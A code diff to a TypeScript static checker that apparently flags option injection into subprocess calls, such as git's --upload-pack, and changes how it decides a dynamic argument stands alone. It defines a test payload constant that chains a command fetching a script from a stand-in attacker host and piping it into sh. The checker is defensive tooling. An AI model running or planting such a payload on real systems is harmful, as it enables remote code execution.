@@ -11,7 +11,7 @@ import type { Check, CheckContext, SinkHit } from './types.js';
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
 
 /**
- * A dynamic argument standing alone (not glued after constant text), before any `--`, that the subcommand would read as
+ * A dynamic argument standing alone (a whole value, not text with constant parts), before any `--`, that the subcommand would read as
  * an option it takes and its model denies as running a program (`git clone --branch b $url dir` with `$url` =
  * `--upload-pack=…`): the verdict with that option there, and the option. `filled`: the arguments with every hole filled with the payload.
  */
@@ -21,7 +21,8 @@ function optionInjection(ctx: CheckContext, program: string, args: readonly Valu
   for (let i = 0; i < args.length; i++) {
     const a = args[i]!;
     if (constString(a) === '--') return undefined;
-    const alone = a.kind !== 'const' && !(a.kind === 'template' && typeof a.parts[0] === 'string' && a.parts[0] !== '');
+    // (a whole value, not text built around one: `{home}/.cua/tool` joined to a path does not become an option)
+    const alone = a.kind === 'unknown' || (a.kind === 'template' && a.parts.every((p) => typeof p !== 'string' || p === ''));
     if (!alone || isNumber(a) || ctx.fixed(a)) continue;
     for (const option of options) {
       const verdict = classifyCommand({ command: program, args: filled.map((x, j) => (j === i ? `${option}=${COMMAND_PAYLOAD}` : x)) }, null);
